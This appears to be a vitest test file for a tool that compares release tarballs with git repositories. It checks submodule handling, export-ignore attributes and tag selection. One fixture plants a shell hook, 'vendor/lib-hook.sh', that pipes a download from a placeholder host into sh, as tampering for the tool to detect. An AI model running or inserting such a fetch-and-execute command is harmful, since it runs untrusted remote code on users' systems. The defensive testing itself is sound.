/**
 * The deliberate bugs an audit of the suite found surviving (issue #15), each pinned by a real repository
 * and a real archive, through verify() (what mutation testing sees: the TypeScript sources) and the built
 * CLI (the exit code a CI gate acts on):
 *  - a tarball-only file whose name extends a submodule's path (`vendor/lib-hook.sh` next to the submodule
 *    `vendor/lib`) is not under the submodule and stays a finding;
 *  - `-export-ignore` (attribute unset) keeps a tracked file in `git archive`: a tampered copy of it is a
 *    changed file, not a tarball-only one; `export-ignore` itself yields EXPORT_IGNORED;
 *  - several tags naming one commit: the annotated tag wins over a lightweight one that sorts first.
 */
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const cli = resolve(__dirname, '../../dist/cli.js');
function runCli(args: string[]) {
  expect(existsSync(cli), 'dist/cli.js is missing: run `npm run build` (npm test does)').toBe(true);
  const p = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 60_000 });
  return { code: p.status, stdout: p.stdout, stderr: p.stderr };
}
const brief = (fs: Array<{ code: string; path: string; severity: string }>) => fs.map((f) => [f.path, f.code, f.severity]);

describe('a tarball-only file next to a submodule', () => {
  const root = tempDir();
  const cacheDir = join(root, 'cache');
  const r = makeRepo(join(root, 'repo'));
  r.commit({ 'README': 'proj\n', 'main.c': 'int main(void) { return 0; }\n' });
  r.git(['update-index', '--add', '--cacheinfo', `160000,${'b'.repeat(40)},vendor/lib`]);
  r.git(['commit', '-q', '-m', 'add the vendor/lib submodule']);
  r.tag('v1.0', { message: 'release 1.0' });
  const commit = r.git(['rev-parse', 'HEAD']);
  const tree = join(root, 'tree', 'proj-1.0');
  writeFiles(tree, {
    'README': 'proj\n',
    'main.c': 'int main(void) { return 0; }\n',
    'vendor/lib/lib.c': 'int lib(void) { return 1; }\n',
    'vendor/lib-hook.sh': '#!/bin/sh\ncurl -fsSL https://example.invalid/payload | sh\n',
  });
  const tarball = makeTar(tree, { compress: 'gzip', out: join(root, 'proj-1.0.tar.gz') });

  it('verify(): the hook is a finding of its own, the submodule holds one file', async () => {
    const res = await verify({ tarball, repo: r.dir, cacheDir });
    expect(res.verdict).toBe('different');
    expect(brief(res.findings)).toEqual([
      ['vendor/lib', 'SUBMODULE', 'medium'],
      ['vendor/lib-hook.sh', 'TARBALL_ONLY_UNEXPLAINED', 'critical'],
    ]);
    expect(res.findings[0]!.evidence).toEqual({ commit: 'b'.repeat(40), tarball: 'content', files: 1 });
    expect(res.counts).toMatchObject({ tarballFiles: 4, gitFiles: 3, identical: 2, tarballOnly: 1, submodules: 1, changed: 0, gitOnly: 0 });
    expect(res.inputs.revision).toMatchObject({ commit, tag: 'v1.0', tagType: 'annotated', how: 'inferred' });
  });

  it('CLI: exit 1, the hook named as critical', () => {
    const p = runCli([tarball, '--repo', r.dir, '--cache-dir', cacheDir, '--format', 'json']);
    expect(p.stderr).toBe('');
    expect(p.code).toBe(1);
    const j = JSON.parse(p.stdout);
    expect(j.verdict).toBe('different');
    expect(brief(j.findings)).toEqual([
      ['vendor/lib', 'SUBMODULE', 'medium'],
      ['vendor/lib-hook.sh', 'TARBALL_ONLY_UNEXPLAINED', 'critical'],
    ]);
  });
});

describe('export-ignore and -export-ignore', () => {
  const root = tempDir();
  const cacheDir = join(root, 'cache');
  const r = makeRepo(join(root, 'repo'));
  const files = {
    '.gitattributes': '*.txt export-ignore\nimportant.txt -export-ignore\n',
    'README': 'proj\n',
    'important.txt': 'the real thing\n',
    'notes.txt': 'maintainer notes\n',
  };
  r.commit(files);
  r.tag('v1.0', { message: 'release 1.0' });
  // What `git archive` exports: everything but notes.txt (important.txt is explicitly not ignored).
  const shipped = { '.gitattributes': files['.gitattributes'], 'README': files.README, 'important.txt': files['important.txt'] };
  const clean = makeTar(writeTree(join(root, 'clean', 'proj-1.0'), shipped), { compress: 'gzip', out: join(root, 'clean', 'proj-1.0.tar.gz') });
  const tampered = makeTar(writeTree(join(root, 'bad', 'proj-1.0'), { ...shipped, 'important.txt': 'the real thing, altered\n' }), {
    compress: 'gzip',
    out: join(root, 'bad', 'proj-1.0.tar.gz'),
  });

  it('verify(): export-ignore drops notes.txt (EXPORT_IGNORED); -export-ignore keeps important.txt compared', async () => {
    const res = await verify({ tarball: clean, repo: r.dir, cacheDir });
    expect(brief(res.findings)).toEqual([['notes.txt', 'EXPORT_IGNORED', 'info']]);
    expect(res.verdict).toBe('explained');
    expect(res.counts).toMatchObject({ tarballFiles: 3, gitFiles: 3, identical: 3, exportIgnored: 1, tarballOnly: 0, gitOnly: 0, changed: 0 });
  });

  it('verify(): a tampered important.txt is a changed tracked file at high, not a tarball-only one', async () => {
    const res = await verify({ tarball: tampered, repo: r.dir, cacheDir });
    expect(brief(res.findings)).toEqual([
      ['important.txt', 'SOURCE_MODIFIED', 'high'],
      ['notes.txt', 'EXPORT_IGNORED', 'info'],
    ]);
    expect(res.verdict).toBe('different');
    expect(res.counts).toMatchObject({ identical: 2, changed: 1, tarballOnly: 0, exportIgnored: 1 });
  });

  it('CLI: exit 0 with EXPORT_IGNORED on the clean archive, exit 1 on the tampered one', () => {
    const ok = runCli([clean, '--repo', r.dir, '--cache-dir', cacheDir, '--format', 'json']);
    expect(ok.stderr).toBe('');
    expect(ok.code).toBe(0);
    const j = JSON.parse(ok.stdout);
    expect(j.verdict).toBe('explained');
    expect(brief(j.findings)).toEqual([['notes.txt', 'EXPORT_IGNORED', 'info']]);
    const bad = runCli([tampered, '--repo', r.dir, '--cache-dir', cacheDir, '--format', 'json']);
    expect(bad.stderr).toBe('');
    expect(bad.code).toBe(1);
    expect(brief(JSON.parse(bad.stdout).findings)).toEqual([
      ['important.txt', 'SOURCE_MODIFIED', 'high'],
      ['notes.txt', 'EXPORT_IGNORED', 'info'],
    ]);
  });
});

describe('several tags on the release commit', () => {
  const root = tempDir();
  const cacheDir = join(root, 'cache');
  const r = makeRepo(join(root, 'repo'));
  r.commit({ 'README': 'proj\n' });
  const commit = r.commit({ 'README': 'proj 2.0\n' });
  // Byte order puts the lightweight "2.0" first; the annotated "v2.0" must still be chosen.
  r.tag('2.0');
  r.tag('v2.0', { message: 'release 2.0' });
  r.tag('release-2.0');
  const tarball = makeTar(writeTree(join(root, 'tree', 'proj-2.0'), { 'README': 'proj 2.0\n' }), { compress: 'gzip', out: join(root, 'proj-2.0.tar.gz') });

  it('verify(): the annotated tag is the one compared', async () => {
    const res = await verify({ tarball, repo: r.dir, cacheDir });
    expect(res.verdict).toBe('identical');
    expect(res.inputs.revision).toMatchObject({ commit, tag: 'v2.0', tagType: 'annotated', how: 'inferred', version: '2.0' });
  });

  it('CLI: the JSON names v2.0 (annotated)', () => {
    const p = runCli([tarball, '--repo', r.dir, '--cache-dir', cacheDir, '--format', 'json']);
    expect(p.code).toBe(0);
    const rev = JSON.parse(p.stdout).inputs.revision;
    expect([rev.tag, rev.tagType, rev.commit]).toEqual(['v2.0', 'annotated', commit]);
  });
});

function writeTree(dir: string, files: Record<string, string>): string {
  writeFiles(dir, files);
  return dir;
}
